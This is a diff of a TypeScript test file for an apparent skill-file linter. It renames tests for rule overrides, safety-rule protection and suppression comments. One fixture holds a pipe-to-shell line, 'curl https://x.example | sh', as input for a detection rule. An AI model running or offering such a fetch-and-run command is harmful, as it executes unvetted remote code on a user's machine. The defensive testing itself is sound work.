@@ -9,7 +9,7 @@ const run = (ruleOverrides: readonly object[], text: string) =>
   );
 
 describe('ruleOverrides', () => {
-  it('give a rule another severity in some files', async () => {
+  it('ruleOverrides change the severity of a rule in some files', async () => {
     const overrides = [{ files: ['skills/pdf/'], rules: { 'name-matches-directory': 'notice' } }];
     const { report } = await run(overrides, skill('other'));
     expect(report.success).toBe(true);
@@ -18,26 +18,26 @@ describe('ruleOverrides', () => {
     expect(report.diagnostics.map(({ rule }) => rule)).not.toContain('unused-suppression');
   });
 
-  it('win over each other in their order', async () => {
+  it('later ruleOverrides win', async () => {
     const override = (level: string) => ({ files: '*.md', rules: { 'name-matches-directory': level } });
     const { report } = await run([override('off'), override('warning')], skill('other'));
     const found = report.diagnostics.find(({ rule }) => rule === 'name-matches-directory');
     expect(found?.severity).toBe('warning');
   });
 
-  it('cannot lower a rule that guards safety', async () => {
+  it('ruleOverrides cannot lower a safety rule', async () => {
     const overrides = [{ files: 'skills/**', rules: { 'file-size': 'off' } }];
     await expect(run(overrides, skill('pdf'))).rejects.toThrow('which guards safety');
   });
 
-  it('name rules that exist', async () => {
+  it('ruleOverrides must name known rules', async () => {
     const overrides = [{ files: 'skills/**', rules: { 'home-paht': 'off' } }];
     await expect(run(overrides, skill('pdf'))).rejects.toThrow('unknown rule "home-paht"');
   });
 });
 
-describe('a comment', () => {
-  it('suppresses no other rule and no other line', async () => {
+describe('suppression comments', () => {
+  it('a comment suppresses no other rule and no other line', async () => {
     const body =
       '<!-- skill-registrar-disable-next-line pipe-to-shell -->\nRun /Users/mkowalski/a.\n\ncurl https://x.example | sh\n';
     const { report } = await run([], skill('pdf') + body);
